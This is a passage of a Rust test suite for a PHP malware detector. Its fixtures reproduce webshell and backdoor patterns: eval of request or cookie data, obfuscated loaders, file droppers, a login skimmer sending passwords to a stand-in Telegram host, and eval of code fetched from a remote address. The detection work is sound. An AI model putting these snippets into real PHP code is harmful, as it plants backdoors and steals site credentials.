             function run() { $p = $GLOBALS[substr($this->data, 6)]; $f = array(); \
             for ($i = 0; $i < 5; $i++) $f[$i] = $p[ord($this->data[$i])]; $f[1] .= $f[2]; \
             $f[3] = $f[1]($f[3]); $s = $f[3]($f[0], $f[1]($f[4])); return $s(); } } $o = new _Wp_Info;";
    assert!(sinks(s).contains(&(Why::DynamicCallFromInput, Danger::Critical)), "{:?}", sinks(s));
    // Near-misses: a global named by a plain variable or a case change, only read.
    for s in [
        "<?php function get($name) { $v = $GLOBALS[$name]; return $v['x']($v['y']); }",
        "<?php function get($name) { $v = $GLOBALS[strtolower($name)]; return $v['x']($v['y']); }",
        "<?php function get($name) { $v = $GLOBALS[substr($name, 1)]; echo $v; }",
    ] {
        assert!(sinks(s).is_empty(), "{s}: {:?}", sinks(s));
    }
}

#[test]
fn decoded_data_decrypted_by_an_object_and_run_is_hidden_code() {
    // A plugin file replaced by a loader: a payload kept URL-encoded elsewhere, decrypted by a
    // class of its own (XXTEA keyed by the visitor's browser), then run.
    let s = "<?php class Box { function open($d) { $k = $_SERVER['HTTP_USER_AGENT']; return $this->xx($d, $k); } } \
             require 'data.php'; $p = urldecode($payload); $b = new Box(); $code = $b->open($p); eval($code);";
    assert!(sinks(s).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(s));
    // The same data only shown.
    let s = "<?php $p = base64_decode($blob); $img = new Image(); echo $img->render($p);";
    assert!(sinks(s).iter().all(|(_, d)| *d == Danger::Low), "{:?}", sinks(s));
}

#[test]
fn preg_replace_patterns_are_compiled_once_per_file_and_capped() {
    let builds = |src: &str| {
        fold::PREG_BUILDS.with(|c| c.set(0));
        let found = sinks(src);
        (fold::PREG_BUILDS.with(|c| c.get()), found)
    };
    // A CSS parser's three patterns, run in a loop read twice and in forty calls: three compiled
    // (each one compiled cost as much as thousands of tokens: a 72 KB file spent a third of its
    // time compiling the same patterns again).
    let call = "$p = preg_replace('/(left|top)/', '0%', '50% 0%'); $p = preg_replace('/(center)/', '50%', '50% 0%'); \
                $p = preg_replace('/(right|bottom)/', '100%', '50% 0%');";
    let src = format!("<?php while (1) {{ echo $q; {} $q = $_GET['q']; }}", call.repeat(40));
    let (n, found) = builds(&src);
    assert_eq!((n, found), (3, vec![]));
    // A file of many distinct patterns compiles at most `MAX_PREG_PATTERNS`.
    let many: String = (0..200).map(|k| format!("$p = preg_replace('/(a|{k})/', 'b', 'a{k}');")).collect();
    let (n, _) = builds(&format!("<?php {many}"));
    assert_eq!(n, fold::MAX_PREG_PATTERNS);
    // A pattern that is plain text is replaced without compiling, and the name still found.
    let (n, found) = builds("<?php $f = preg_replace('/_/', '', 's_y_s_t_e_m'); $f($_GET['c']);");
    assert_eq!(n, 0);
    assert!(found.contains(&(Why::ShellFromInput, Danger::Critical)), "{found:?}");
    // A compiled one still folds, its modifiers on (`/i` was read as `(?-ui)`: switched off).
    let (n, found) = builds("<?php $f = preg_replace('/(Q|Z)+/i', '', 'syqsZtzem'); $f($_GET['c']);");
    assert_eq!(n, 1);
    assert!(found.contains(&(Why::ShellFromInput, Danger::Critical)), "{found:?}");
}

#[test]
fn a_script_rewriting_its_own_code_with_request_text_writes_code() {
    // WP-VCD's `change_code` action: the header's code replaced by what the request sends.
    let s = "<?php if ($_REQUEST['password'] == 'x') { $f = @file_get_contents(__FILE__); \
             $f = str_replace($m[1][0], stripslashes($_REQUEST['newcode']), $f); @file_put_contents(__FILE__, $f); }";
    assert!(sinks(s).contains(&(Why::WritesCodeWithInput, Danger::High)), "{:?}", sinks(s));
    // By its name in its own folder: fresh149's Shell Booter bot's `update` order.
    let by_name = "<?php function fix($d) { $d = str_replace('a', 'b', $d); return stripslashes($d); }\n\
                   if (isset($_POST['update_data'])) { file_put_contents(basename(__FILE__), fix($_POST['update_data'])); }";
    let direct = "<?php file_put_contents(basename(__FILE__), $_POST['update_data']);";
    assert!(sinks(direct).contains(&(Why::WritesCodeWithInput, Danger::High)), "{:?}", sinks(direct));
    assert!(sinks(by_name).contains(&(Why::WritesCodeWithInput, Danger::High)), "{:?}", sinks(by_name));
    // Beside it, or from a fixed text, it is not.
    let beside = "<?php file_put_contents(__FILE__ . '.json', json_encode($_POST['settings']));";
    assert!(!sinks(beside).iter().any(|(w, _)| *w == Why::WritesCodeWithInput), "{:?}", sinks(beside));
    let fixed = "<?php $f = file_get_contents(__FILE__); file_put_contents(__FILE__, str_replace('a', 'b', $f));";
    assert!(sinks(fixed).is_empty(), "{:?}", sinks(fixed));
}

#[test]
fn request_fields_read_under_assembled_keys_are_obfuscated_names() {
    // A cloaker's alphabet: every `$_SERVER` key spelled from it.
    let s = "<?php $O = urldecode('%71%77%65%72%74%79%75%69%6f%70%61%73%64%66%67%68%6a%6b%6c%7a%78%63%76%62%6e%6d%51%57%45%52%54%59%55%49%4f%50%41%53%44%46%47%48%4a%4b%4c%5a%58%43%56%42%4e%4d%5f');\n\
             $ua = @$_SERVER[$O{41}.$O{30}.$O{30}.$O{35}.$O{52}.$O{32}.$O{37}.$O{28}.$O{29}.$O{52}.$O{36}.$O{40}.$O{28}.$O{50}.$O{30}];";
    assert_eq!(sinks(s), [(Why::ObfuscatedNames, Danger::Medium)]);
    let s = "<?php $k = base64_decode('Y21k'); echo $_GET[$k];";
    assert_eq!(sinks(s), [(Why::ObfuscatedNames, Danger::Medium)]);
    // Keys from a variable or a plain literal.
    assert!(sinks("<?php $k = 'HTTP_' . strtoupper($h); echo $_SERVER[$k]; echo $_GET['p' . $n];").is_empty());
}

#[test]
fn a_command_escaped_unless_php_lacks_escapeshellarg_is_not_the_visitors() {
    // CodeIgniter's upload library: the file's type asked of `file`, its temporary path escaped
    // (the raw branch is for a PHP without escapeshellarg).
    let ci = "<?php class Up { function run() { $f = $_FILES['userfile']; $this->mime($f); }\n\
              protected function mime($file) { $cmd = function_exists('escapeshellarg')\n\
              ? 'file --brief --mime '.escapeshellarg($file['tmp_name']).' 2>&1'\n\
              : 'file --brief --mime '.$file['tmp_name'].' 2>&1'; $m = @exec($cmd); $m = @shell_exec($cmd); } }";
    assert!(sinks(ci).iter().all(|(w, _)| *w != Why::ShellFromInput), "{:?}", sinks(ci));
    // Any other choice is read whole, and a sink in the fallback is still one.
    let other = "<?php $c = function_exists('posix_getpid') ? 'id' : $_GET['c']; system($c);";
    assert!(sinks(other).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(other));
    let inside = "<?php $c = function_exists('escapeshellarg') ? 'id' : system($_GET['c']);";
    assert!(sinks(inside).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(inside));
}

#[test]
fn a_whole_command_from_the_visitor_escaped_with_escapeshellcmd_is_still_theirs() {
    // Regression: fresh158's Realzcode shell escapes the command's marks, not its program.
    let shell = "<?php $x = escapeshellcmd(@$_GET['x']); $x = $x . ' 2>&1'; echo system($x);";
    assert!(sinks(shell).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(shell));
    // A fixed program given the visitor's words as arguments, escaped: theirs no more.
    let fixed = "<?php $o = shell_exec(escapeshellcmd('convert ' . $_POST['f'] . ' out.png'));";
    assert!(sinks(fixed).iter().all(|(w, _)| *w != Why::ShellFromInput), "{:?}", sinks(fixed));
}

#[test]
fn decoded_settings_picking_a_driver_file_in_a_fixed_folder_are_not_hidden_code() {
    // CodeIgniter's database loader: the driver's name parsed from a URL-encoded address.
    let ci = "<?php $dsn = parse_url($s); $params = array('dbdriver' => $dsn['scheme'], 'pass' => rawurldecode($dsn['pass']));\n\
              require_once(BASEPATH.'database/drivers/'.$params['dbdriver'].'/'.$params['dbdriver'].'_driver.php');";
    assert!(sinks(ci).is_empty(), "{:?}", sinks(ci));
    let through_var = "<?php $dsn = parse_url($s); $params = array('dbdriver' => $dsn['scheme'], 'pass' => rawurldecode($dsn['pass']));\n\
              $driver_file = BASEPATH.'database/drivers/'.$params['dbdriver'].'/'.$params['dbdriver'].'_driver.php';\n\
              file_exists($driver_file) OR show_error('Invalid DB driver'); require_once($driver_file);";
    assert!(sinks(through_var).is_empty(), "{:?}", sinks(through_var));
    // A decoded name run whole, or decoded into a path with no fixed folder, still is.
    let hidden = "<?php $p = base64_decode($_COOKIE['x'] . 'Li4v'); include $p;";
    assert!(!sinks(hidden).is_empty());
    let anywhere = "<?php $n = gzinflate(base64_decode($blob)); include($n . '.php');";
    assert!(sinks(anywhere).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(anywhere));
    let known = "<?php include __DIR__ . '/' . base64_decode('Li4vdG1wL3g=') . '.php';";
    assert!(sinks(known).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(known));
}

#[test]
fn a_function_that_only_returns_a_builtin_of_its_parameters_is_that_builtin() {
    // A loader's padded names, cleaned by `str_replace` under another name, then a function
    // made with `create_function` runs what it is given.
    let s = "<?php function By2($a, $b, $c) { return str_replace($a, $b, $c); }\n\
             $d = By2('zQx', '', 'bzQxazQxszQxe64_decode'); $f = By2('kP', '', 'ckPreate_fkPunction');\n\
             $g = $f('$x', 'eval(' . $d . '($x));'); $g('ZWNobyAx');";
    assert!(sinks(s).iter().any(|(_, d)| *d >= Danger::High), "{:?}", sinks(s));
    // Two functions naming each other are not followed around.
    let s = "<?php function a($x) { return b($x); } function b($x) { return a($x); } echo a('q');";
    assert!(sinks(s).is_empty());
}

#[test]
fn an_upload_handed_to_a_function_that_saves_it_is_a_dropper() {
    // Regression: a generated backdoor moves the upload in a helper with a harmless name
    // (`add_meta($_FILES[$k]['tmp_name'], $dest)`), where `move_uploaded_file` saw parameters.
    let helper = "<?php function add_meta($from, $to) { $ok = move_uploaded_file($from, $to); return $ok; }\n\
                  function handle($k) { $to = basename($_FILES[$k]['name']); add_meta($_FILES[$k]['tmp_name'], $to); }\n\
                  handle('f');";
    assert!(sinks(helper).contains(&(Why::UploadDropper, Danger::High)));
    // Through a second helper too.
    let twice = "<?php function a($f, $t) { move_uploaded_file($f, $t); } function b($f, $t) { a($f, $t); }\n\
                 b($_FILES['x']['tmp_name'], $_POST['to']);";
    assert!(sinks(twice).contains(&(Why::UploadDropper, Danger::High)));
    // Near-misses: the helper given a file of the application's, and one saving as a picture.
    let own = "<?php function keep($f, $t) { copy($f, $t); } keep(__DIR__ . '/a.txt', __DIR__ . '/b.txt');";
    assert!(sinks(own).is_empty());
    let picture = "<?php function keep($f) { move_uploaded_file($f, 'media/' . uniqid() . '.jpg'); }\n\
                   keep($_FILES['p']['tmp_name']);";
    assert!(sinks(picture).is_empty());
}

#[test]
fn request_data_kept_in_a_class_static_property_reaches_eval() {
    // Regression: a class pasted in front of a site's files keeps the cookie's payload in
    // `K::$data` in its constructor and runs it in its destructor; static properties were read
    // as unknown values.
    let src = "<?php class K { public static $d = NULL;\n\
               public function __construct() { $c = $_COOKIE; K::$d = @unserialize(base64_decode($c['k'])); }\n\
               public function __destruct() { if (is_array(K::$d)) { eval(K::$d['content']); } } }\n\
               $o = new K();";
    assert!(sinks(src).contains(&(Why::CodeFromInput, Danger::Critical)));
    // Near-miss: a static property the class sets from its own settings.
    let own = "<?php class K { public static $d = NULL; public function __construct() { K::$d = ['content' => 'return 1;']; }\n\
               public function run() { return K::$d; } }";
    assert!(sinks(own).is_empty());
}

#[test]
fn eval_of_what_a_function_the_caller_names_returns_runs_what_the_caller_sends() {
    // Regression: `function d($a) { $r = $a[1]($a[2]); eval($r); }` reached from the request
    // through decoding helpers was read as eval of an unknown value.
    let src = "<?php function d($a) { if (count($a) == 3) { $f = $a[1]; $r = $f($a[2]); eval($r); die(); } }\n\
               function e($s, $sep) { $s = explode($sep, $s); d($s); }\n\
               foreach ($_COOKIE as $k => $v) { e(pack('H*', $v) ^ $k, '#'); }";
    assert!(
        sinks(src).iter().any(|(w, d)| *d == Danger::Critical && matches!(w, Why::EvalOfDecoded | Why::CodeFromInput))
    );
    // Near-miss: a callback the caller names, its result printed.
    let printed = "<?php function show($f, $x) { echo $f($x); } show('strtoupper', 'a');";
    assert!(sinks(printed).is_empty());
}

#[test]
fn array_map_keeps_the_marks_of_what_it_transforms() {
    // Regression: `array_map` returned an unknown value, so request data turned into numbers
    // and back into characters (`array_map('ord', …)`, then `array_map('chr', …)`) was lost.
    let round_trip = "<?php $c = array_map('ord', str_split($_POST['p']));\n\
                      eval(implode('', array_map('chr', $c)));";
    assert!(sinks(round_trip).contains(&(Why::CodeFromInput, Danger::Critical)));
    // Near-miss: numbers the application maps, and characters it builds from its own codes.
    let own = "<?php $ids = array_map('intval', $ids); echo implode('', array_map('chr', array(104, 105)));";
    assert!(sinks(own).is_empty());
}

#[test]
fn what_each_parameter_is_called_or_included_as_follows_the_argument() {
    // Regression: a generated backdoor splits a decoded array into a function's name and a
    // file, and hands them to helpers (`$g = $s[4]; $f = $s[2]; inc($f); $g($f);`); the
    // helpers' summaries said "calls a parameter", not which one.
    let src = "<?php function inc($f) { include($f); }\n\
               function run($s) { $g = $s[4]; $f = $s[2]; inc($f); $g($f); }\n\
               run(unserialize($_GET['k']));";
    let found = sinks(src);
    assert!(found.contains(&(Why::CodeFromInput, Danger::Critical)), "{found:?}");
    assert!(found.contains(&(Why::DynamicCallFromInput, Danger::Critical)), "{found:?}");
    // Near-misses: the request's data given as the data of a callback the application names,
    // a loader that includes inside its own folder, and a hook table kept in a global.
    let data = "<?php function apply($cb, $x) { return $cb($x); } echo apply('trim', $_POST['x']);";
    assert!(sinks(data).is_empty());
    let loader = "<?php function view($name) { include __DIR__ . '/views/' . $name . '.php'; } view($_GET['p']);";
    assert!(!sinks(loader).iter().any(|(_, d)| *d == Danger::Critical));
    let hooks = "<?php function add_cacheaction($a, $f) { global $acts; $acts[$a][] = $f; }\n\
                 function do_cacheaction($a, $v = '') { global $acts; foreach ($acts[$a] as $f) { $v = call_user_func_array($f, array($v)); } return $v; }\n\
                 echo do_cacheaction('key', $_SERVER['HTTP_HOST']);";
    assert!(sinks(hooks).is_empty());
}

#[test]
fn an_encoded_blob_handed_to_a_function_that_writes_it_is_a_dropper() {
    // Regression: a mass infector writes `base64_decode($fileData)` (a 160 KB literal) through
    // its own `FileWrite($path, $data)` into random writable folders.
    let blob = "PD9waHAgZXZhbCgkX1BPU1RbJ2MnXSk7Pz4".repeat(80);
    let src = format!(
        "<?php $fileData = '{blob}';\n\
         function FileWrite($path, $data) {{ if ($fp = fopen($path, 'w')) {{ fwrite($fp, $data); fclose($fp); }} return $path; }}\n\
         FileWrite($dir . '/ini_' . uniqid() . '.php', base64_decode($fileData));"
    );
    assert!(sinks(&src).contains(&(Why::UploadDropper, Danger::High)));
    // Near-miss: the same helper writing the application's own text.
    let own = "<?php function FileWrite($path, $data) { $fp = fopen($path, 'w'); fwrite($fp, $data); fclose($fp); }\n\
               FileWrite(__DIR__ . '/cache/list.txt', implode(\"\\n\", $names));";
    assert!(sinks(own).is_empty());
    // fresh111's mass defacer: the visitor's text saved under the visitor's name through the
    // file's own writer.
    let visitors = "<?php function bikin_file($n, $s) { $fp = fopen($n, 'w'); fputs($fp, $s); }\n\
                    $nama = $_POST['nama']; $script = $_POST['script']; bikin_file(\"$dir/$nama\", \"$script\");";
    assert_eq!(sinks(visitors), [(Why::UploadDropper, Danger::High)]);
    // Only the text is the visitor's (a guestbook's log): not the strong finding.
    let text_only = "<?php function save($n, $s) { $fp = fopen($n, 'a'); fputs($fp, $s); }\n\
                     save(__DIR__ . '/book.txt', $_POST['msg']);";
    assert!(!sinks(text_only).contains(&(Why::UploadDropper, Danger::High)));
}

#[test]
fn an_uploaded_files_text_written_under_a_php_name_is_a_dropper() {
    // fresh118's deployer: the upload's text read, then written as one of a table of PHP names.
    let deploy = "<?php $tmp = $_FILES['file']['tmp_name']; $names = ['index.php', 'auth.php', 'settings.php'];\n\
                  $c = file_get_contents($tmp); foreach ($dirs as $d) { file_put_contents($d . '/' . $names[array_rand($names)], $c); }";
    assert!(sinks(deploy).contains(&(Why::UploadDropper, Danger::High)), "{:?}", sinks(deploy));
    // An imported CSV's text kept under a data name: not the strong finding.
    let import = "<?php $c = file_get_contents($_FILES['csv']['tmp_name']); $names = ['a.csv', 'b.csv'];\n\
                  file_put_contents(__DIR__ . '/imports/' . $names[0], $c);";
    assert!(!sinks(import).contains(&(Why::UploadDropper, Danger::High)), "{:?}", sinks(import));
}

#[test]
fn visitors_text_logged_through_a_function_into_a_data_file_is_no_dropper() {
    // Regression (this session's wrapped-writer rule): a log function given the visitor's name
    // and page writes them into a `.txt` it names itself.
    let visits = "<?php function saveLog($who, $page) { file_put_contents('visits.txt', \"$who $page\\n\", FILE_APPEND); }\n\
                  saveLog($_POST['name'], $_POST['page']);";
    assert!(!sinks(visits).iter().any(|(w, _)| *w == Why::UploadDropper), "{:?}", sinks(visits));
}

#[test]
fn a_login_password_sent_to_another_site_is_collected() {
    // fresh15/17's SEO engine (`template-config.php`): an administrator's login checked with
    // `wp_authenticate`, then posted through the file's own `httpPost` to an address it keeps.
    let engine = "<?php if (!empty($_POST['log']) && !empty($_POST['pwd'])) { $un = $_POST['log']; $up = $_POST['pwd']; \
                  $auth = (array) wp_authenticate($un, $up); if (!empty($auth['ID'])) { \
                  $params = 'clientid=1&updata=' . urlencode($un . '|||' . $up); $r = httpPost($adm, $params); } } \
                  function httpPost($url, $params) { $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $url); \
                  curl_setopt($ch, CURLOPT_POSTFIELDS, $params); return curl_exec($ch); }";
    assert!(sinks(engine).contains(&(Why::CredentialCollector, Danger::High)), "{:?}", sinks(engine));
    // The classic `wp-login.php` skimmers: mailed to the attacker, or added to a hidden file.
    let mailed =
        "<?php if (isset($_POST['pwd'])) { @mail('x@example.com', 'wp', $_POST['log'] . ' ' . $_POST['pwd']); }";
    assert!(sinks(mailed).contains(&(Why::CredentialCollector, Danger::High)), "{:?}", sinks(mailed));
    let logged =
        "<?php file_put_contents(__DIR__ . '/.ses', $_POST['log'] . ':' . $_POST['pwd'] . \"\\n\", FILE_APPEND);";
    assert!(sinks(logged).contains(&(Why::CredentialCollector, Danger::High)), "{:?}", sinks(logged));
    // fresh78's fake "WP Secure" plugin: the login's password posted to a chat bot by a helper
    // that puts its parameter in a stream context's content.
    let posted = "<?php function send($m) { $o = array('http' => array('method' => 'POST', 'content' => http_build_query(array('text' => $m)))); \
                  file_get_contents('https://api.telegram.example/bot1/sendMessage', false, stream_context_create($o)); }\n\
                  function on_login($login) { $p = isset($_POST['pwd']) ? $_POST['pwd'] : ''; send(\"User: $login\\nPassword: $p\"); }";
    assert!(sinks(posted).contains(&(Why::CredentialCollector, Danger::High)), "{:?}", sinks(posted));
    // Regression (review): `fopen`'s context is its fourth argument.
    let opened = posted.replace(
        "file_get_contents('https://api.telegram.example/bot1/sendMessage', false, stream_context_create($o))",
        "fopen('https://api.telegram.example/bot1/sendMessage', 'r', false, stream_context_create($o))",
    );
    assert!(opened.contains("fopen("), "{opened}");
    assert!(sinks(&opened).contains(&(Why::CredentialCollector, Danger::High)), "{:?}", sinks(&opened));
    // Near-misses: a registration mail to the address the new user typed, WordPress's setup
    // writing the database password into its configuration, an API's settings form tested
    // against that API, and a password's hash prefix checked against a breach list.
    for s in [
        "<?php wp_mail($_POST['email'], 'Welcome', 'Your password: ' . $_POST['pass1']);",
        "<?php $pwd = trim($_POST['pwd']); $c = str_replace('password_here', $pwd, $sample); file_put_contents(ABSPATH . 'wp-config.php', $c);",
        "<?php $ch = curl_init('https://api.example.com/login'); curl_setopt($ch, CURLOPT_USERPWD, $_POST['user'] . ':' . $_POST['password']); curl_exec($ch);",
        "<?php $h = strtoupper(sha1($_POST['pwd'])); $r = wp_remote_get('https://api.pwnedpasswords.com/range/' . substr($h, 0, 5));",
        // A helper posting what it is given, handed the user's name only.
        &posted.replace("Password: $p", "Logged in"),
    ] {
        assert!(!sinks(s).iter().any(|(w, _)| *w == Why::CredentialCollector), "{s}: {:?}", sinks(s));
    }
}

#[test]
fn an_include_of_a_page_found_in_an_allow_list_is_the_applications() {
    // Regression: phpMyAdmin's `common.inc.php` includes the page a form names after finding it
    // in `$goto_whitelist` (fresh18's benign files).
    let listed =
        "<?php $r = $_POST['redirect']; if (!empty($r) && in_array($r, $goto_whitelist)) { include $r; exit(); }";
    assert!(!sinks(listed).contains(&(Why::CodeFromInput, Danger::Critical)), "{:?}", sinks(listed));
    // Near-misses: a list check that is negated, of another variable, or before the block.
    for s in [
        "<?php $r = $_POST['redirect']; if (!in_array($r, $pages)) { include $r; }",
        "<?php $r = $_POST['redirect']; if (in_array($page, $pages)) { include $r; }",
        "<?php $r = $_POST['redirect']; if (in_array($r, $pages)) { echo 1; } include $r;",
    ] {
        assert!(sinks(s).contains(&(Why::CodeFromInput, Danger::Critical)), "{s}: {:?}", sinks(s));
    }
}

#[test]
fn extract_called_through_a_variable_is_read_as_extract() {
    // fresh19's uploads `index.php` backdoor: `$ja = "extract"; $ja($p)` defines `$lq`
    // (create_function) and `$kfd` (a cookie) from an array holding the cookie.
    let s = "<?php $tb = \"_COOKIE\"; $c = &$$tb; $p = array('kfd' => @$c['e8z0'], 'lq' => 'create_function', 'h' => 'base64_decode'); \
             $ja = 'extract'; $ja($p); $y = $lq('', $h($kfd)); $y();";
    assert!(sinks(s).contains(&(Why::DynamicCallFromInput, Danger::Critical)), "{:?}", sinks(s));
    // Near-miss: a view's own data extracted through a variable.
    let view =
        "<?php $data = array('title' => 'Home', 'cb' => 'strtoupper'); $f = 'extract'; $f($data); echo $cb($title);";
    assert!(sinks(view).is_empty(), "{:?}", sinks(view));
}

#[test]
fn a_property_read_inside_a_string_is_the_propertys_value() {
    // servicom's object backdoor: the request kept in a property, run from `__destruct`
    // through a string that reads it.
    let s = "<?php class T { public $name = ''; function __destruct() { @eval(\"$this->name\"); } }
        $t = new T(); $c = @$_POST['css']; $t->name = $c;";
    assert_eq!(sinks(s), [(Why::CodeFromInput, Danger::Critical)]);
    let braced =
        "<?php class T { function __destruct() { eval(\"{$this->code}\"); } } $t = new T(); $t->code = $_GET['x'];";
    assert_eq!(sinks(braced), [(Why::CodeFromInput, Danger::Critical)]);
    let shell = "<?php $o->cmd = $_REQUEST['c']; echo `$o->cmd`;";
    assert_eq!(sinks(shell), [(Why::ShellFromInput, Danger::Critical)]);
    // Near misses: a property the application sets itself, and the variable alone (an
    // object printed in a message, not its property).
    assert!(sinks("<?php class V { function run() { eval(\"$this->code\"); } } $v->code = 'return 1;';").is_empty());
    assert!(sinks("<?php $o = new X(); $o->name = $_GET['n']; echo \"$o->title\";").is_empty());
}

#[test]
fn a_chain_of_assignments_written_backwards_reaches_its_sink() {
    // get-card's loader: `goto` puts each step before the one it needs, so the request reaches
    // `eval` two links back (a pass per link).
    let f = "function g($p = '') { goto k; k: $c = curl_init($p); goto n; n: curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); goto e; e: $r = curl_exec($c); goto b; b: return $r; }";
    let chained = format!(
        "<?php function h() {{ goto u; x: eval($b); goto z; s: $p = 'http://h.example/'; goto k; k: $b = g($p . $u); goto x; u: $u = isset($_GET['t']) ? trim($_GET['t']) : ''; goto s; z: }} {f} h();"
    );
    assert_eq!(sinks(&chained), [(Why::CodeFromInput, Danger::Critical)]);
    // Near miss: the same chain with the page's own name in place of the request's field.
    let own = chained.replace("isset($_GET['t']) ? trim($_GET['t']) : ''", "'page'");
    assert!(!sinks(&own).contains(&(Why::CodeFromInput, Danger::Critical)), "{:?}", sinks(&own));
}

#[test]
fn an_old_link_maker_with_preg_replace_e_is_weak() {
    // Regression: an old Twitter library (fresh19, benign) makes links with `/e` and a
    // replacement naming its own settings; only the match is in the code.
    let own = r#"<?php function links($status, $target, $max) { return preg_replace("/(https?:\/\/[^ ]+)/e", "'<a href=\"$1\" $target>' . substr('$1', 0, $max) . '</a>'", $status); }"#;
    assert_eq!(sinks(own), [(Why::PregReplaceEval, Danger::Low)]);
    // The visitor's or decoded text interpolated is not.
    let posted = r#"<?php $c = $_POST['c']; echo preg_replace("/x/e", "$c", 'x');"#;
    assert_eq!(sinks(posted), [(Why::PregReplaceEval, Danger::Critical)]);
    let decoded = r#"<?php $c = base64_decode($k); echo preg_replace("/x/e", "{$c}", 'x');"#;
    assert!(sinks(decoded).contains(&(Why::PregReplaceEval, Danger::Critical)), "{:?}", sinks(decoded));
}

#[test]
fn function_names_cut_from_a_long_table_are_known() {
    // ebenezerssschool's injection (fresh25): the names are pieces of a table of 6 KB, cut
    // out with `substr` and split: `strrev` of one is `create_function`, called by that hidden name.
    let table = format!("{}noitcnuf_etaercxstrrev", "#%<>".repeat(1_000));
    let src = format!(
        "<?php $t = '{table}'; $a = explode('x', substr($t, 4000, 22)); $make = $a[1]($a[0]);\n\
         $f = $make('', $code); $f('');"
    );
    assert!(sinks(&src).contains(&(Why::HiddenFunctionName, Danger::High)), "{:?}", sinks(&src));
    // Near miss: the same table and cut, only printed.
    let shown = format!("<?php $t = '{table}'; $a = explode('x', substr($t, 4000, 22)); echo $a[0];");
    assert!(sinks(&shown).is_empty(), "{:?}", sinks(&shown));
}

#[test]
fn a_download_saved_by_a_helper_under_the_visitors_name_is_a_dropper() {
    // fresh27's wp-signin.php: what the visitor names is fetched with curl and saved by the
    // file's own helper under the name the visitor sends.
    let src = "<?php function fetch($u) { $c = curl_init(); curl_setopt($c, CURLOPT_URL, $u); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); return curl_exec($c); }\n\
               function store($res, $dest) { @file_put_contents($dest . '.php', $res); }\n\
               if (isset($_GET['source'], $_GET['dest'])) { @store(fetch($_GET['source']), $_GET['dest']); }";
    assert_eq!(sinks(src), [(Why::UploadDropper, Danger::High)]);
    // Near miss: the application's own feed saved under its own name.
    let own = "<?php function fetch($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); return curl_exec($c); }\n\
               function store($res, $dest) { file_put_contents($dest, $res); } store(fetch('https://feeds.example/news.xml'), 'cache/news.xml');";
    assert!(sinks(own).is_empty(), "{:?}", sinks(own));
}

#[test]
fn a_wrapper_runs_only_the_arguments_at_the_parameters_that_reach_its_command() {
    // Regression: jQuery File Upload's handler (fresh28, benign) hands the uploaded file's
    // name, escaped, and its own settings to ImageMagick through its own methods; the
    // settings were kept in a property, so the visitor's file name was taken for the command.
    let library = "<?php class H { protected $options;\n\
        function __construct($options) { $this->options = $options; }\n\
        protected function scale($file_name, $version, $options) { $cmd = $this->options['bin'] . ' ' . $options['params'] . ' ' . escapeshellarg($file_name); exec($cmd, $out, $err); }\n\
        protected function handle($file_path, $file) { foreach ($this->options['versions'] as $v => $o) { $this->scale($file->name, $v, $o); } }\n\
        protected function upload($tmp, $name) { $file = new stdClass(); $file->name = $name; $this->handle($tmp, $file); }\n\
        function post() { $this->upload($_FILES['f']['tmp_name'], $_FILES['f']['name']); } }";
    assert!(!sinks(library).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(library));
    // The argument at the parameter that reaches the command is still the visitor's.
    let reaches = "<?php function run($label, $cmd) { echo $label; system($cmd); } run('x', $_GET['c']);";
    assert_eq!(sinks(reaches), [(Why::ShellFromInput, Danger::Critical)]);
    let other = "<?php function run($label, $cmd) { echo $label; system($cmd); } run($_GET['l'], 'uptime');";
    assert!(!sinks(other).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(other));
    // A parameter past the tracked ones counts wherever it is (a Magento patcher's fifth).
    let fifth = "<?php function patch($a, $b, $c, $d, $link) { shell_exec('curl -o x ' . $link); } patch(1, 2, 3, 4, $_GET['u']);";
    assert_eq!(sinks(fifth), [(Why::ShellFromInput, Danger::Critical)]);
}

#[test]
fn a_template_loaded_from_inside_an_archive_runs_the_archives_code() {
    // fresh54's fake "Hello Elementor Theme" plugin: WordPress's `load_template` requires what
    // it is given, here a PHP file inside an archive named as a theme's data.
    let fake = r##"<?php function wp_hello_theme_load() { load_template("zip://" . locate_template("hello.theme") . "#archive", true); }
        add_action('wp_loaded', 'wp_hello_theme_load');"##;
    assert_eq!(sinks(fake), [(Why::IncludeOfData, Danger::High)]);
    // A theme's own template part.
    assert!(sinks("<?php load_template(get_template_directory() . '/parts/header.php', false);").is_empty());
}

#[test]
fn a_function_the_visitor_picks_but_gives_nothing_is_a_routers_handler() {
    // fresh55's admin pages: `call_user_func(filter_var($_GET['do']))` runs the page's `add()` or
    // `edit()`; a function given nothing runs no code or command the visitor sends.
    let router = "<?php $func = filter_var($_GET['do']); call_user_func($func); function add() { }";
    assert_eq!(sinks(router), [(Why::DynamicCallFromInput, Danger::Low)]);
    assert_eq!(sinks("<?php $a = $_GET['do']; $a();"), [(Why::DynamicCallFromInput, Danger::Low)]);
    // Given something, or handed to a caller that gives it data, it is any function.
    for any in [
        "<?php $a = $_GET['do']; $a($x);",
        "<?php call_user_func($_GET['do'], 'id');",
        "<?php ob_start($_GET['f']); echo $_GET['c'];",
        // Regression (review): what the picked function returns may be the request itself
        // (`getallheaders`), which then picks and feeds another.
        "<?php $h = $_GET['g'](); $h['X-A']($h['X-B']);",
        "<?php $h = call_user_func($_GET['g']); $h['X-A']($h['X-B']);",
    ] {
        assert!(sinks(any).contains(&(Why::DynamicCallFromInput, Danger::Critical)), "{any}");
    }
}

#[test]
fn code_fetched_by_the_files_own_fetcher_from_a_written_address_runs_downloaded_code() {
    // fresh67's `wp-bIog-header.php`: the fetcher calls `curl_exec` by a name decoded from hex.
    let hidden = "<?php function get_it($u) { $f = hex2str($GLOBALS['a'][3]); $ch = curl_init($u); return $f($ch); }\n\
                  $d = get_it('https://raw.example.net/x/Sme.php'); if ($d !== false) { eval('?>' . $d); }";
